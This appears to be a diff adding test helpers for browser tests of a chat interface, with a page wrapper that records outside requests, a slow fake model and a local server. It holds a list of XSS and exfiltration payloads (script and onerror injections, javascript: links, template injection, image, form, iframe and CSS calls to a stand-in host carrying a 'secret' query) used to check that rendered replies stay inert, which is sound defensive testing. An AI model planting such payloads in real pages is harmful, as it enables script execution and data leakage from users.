@@ -1,0 +1,112 @@
+"""What the browser tests are made of: a served chat, a watched page, a slow model."""
+
+import os
+import socket
+import time
+from collections.abc import Iterator, Sequence
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+from threading import Event, Thread
+from typing import Any
+
+import uvicorn
+from playwright.sync_api import Page
+
+from ibid.library import Library
+from ibid.ports import Message
+from ibid.settings import Settings
+from ibid.types import Delta
+from ibid.ui import create_app
+
+SEEDS = Path(os.path.relpath(Path(__file__).parents[2] / "seeds"))
+QUESTION = "what challenges are cited for AI drug discovery?"
+HOSTILE = (
+    "<script>window.hurt=1</script>",
+    "<img src=x onerror=window.hurt=1>",
+    "<img src='http://127.0.0.2:9/leak.png'>",
+    "![pixel](http://127.0.0.2:9/leak.png?q=secret)",
+    "[click](javascript:window.hurt=1)",
+    '"><svg onload=window.hurt=1>',
+    "${window.hurt=1}",
+    "{{constructor.constructor('window.hurt=1')()}}",
+    "<form action='http://127.0.0.2:9/'><button>send</button></form>",
+    "<iframe src='http://127.0.0.2:9/'></iframe>",
+    "<style>@import 'http://127.0.0.2:9/x.css'; body{display:none}</style>",
+    "`window.hurt=1`",
+)
+
+
+@dataclass
+class Visit:
+    """A page, and everything that it asked for and complained of."""
+
+    page: Page
+    address: str
+    requests: list[str] = field(default_factory=list)
+    complaints: list[str] = field(default_factory=list)
+
+    def open(self, query: str = "", wait: str = ".welcome") -> "Visit":
+        self.page.goto(self.address + query)
+        self.page.wait_for_selector(wait)
+        return self
+
+    def ask(self, question: str = QUESTION) -> None:
+        turn = 1 + self.page.locator("[data-turn]").count()
+        self.type(question)
+        self.page.wait_for_selector(f"[data-turn='{turn}'][data-state=done]")
+
+    def type(self, question: str) -> None:
+        self.page.fill("#question textarea", question)
+        self.page.keyboard.press("Enter")
+
+    @property
+    def elsewhere(self) -> list[str]:
+        local = (self.address, "data:", "blob:")
+        return [url for url in self.requests if not url.startswith(local)]
+
+
+class SlowGenerator:
+    """A model that writes its reply three letters at a time, with a pause before each."""
+
+    name = "slow"
+    context = 8192
+
+    def __init__(self) -> None:
+        self.prompts: list[Sequence[Message]] = []
+        self.closed = Event()
+        self.will_write("")
+
+    def will_write(self, reply: str, pause: float = 0.0) -> None:
+        """Say what it answers from now on."""
+        self.reply, self.pause = reply, pause
+        self.closed.clear()
+
+    def stream(self, messages: Sequence[Message]) -> Iterator[Delta]:
+        self.prompts.append(messages)
+        try:
+            for start in range(0, len(self.reply), 3):
+                time.sleep(self.pause)
+                yield Delta(self.reply[start : start + 3])
+        finally:
+            self.closed.set()
+
+
+@contextmanager
+def serving(library: Library) -> Iterator[str]:
+    """Serve a chat on a free port for as long as the block runs."""
+    listening = socket.create_server(("127.0.0.1", 0))
+    config = uvicorn.Config(create_app(library), log_level="critical")
+    server = uvicorn.Server(config)
+    thread = Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{listening.getsockname()[1]}/"
+    finally:
+        server.should_exit = server.force_exit = True
+        thread.join(10)
+        listening.close()
+
+
+def open_library(index: Path, folder: Path = SEEDS, **parts: Any) -> Library:
+    return Library.open(folder, index, Settings(model="none"), **parts)
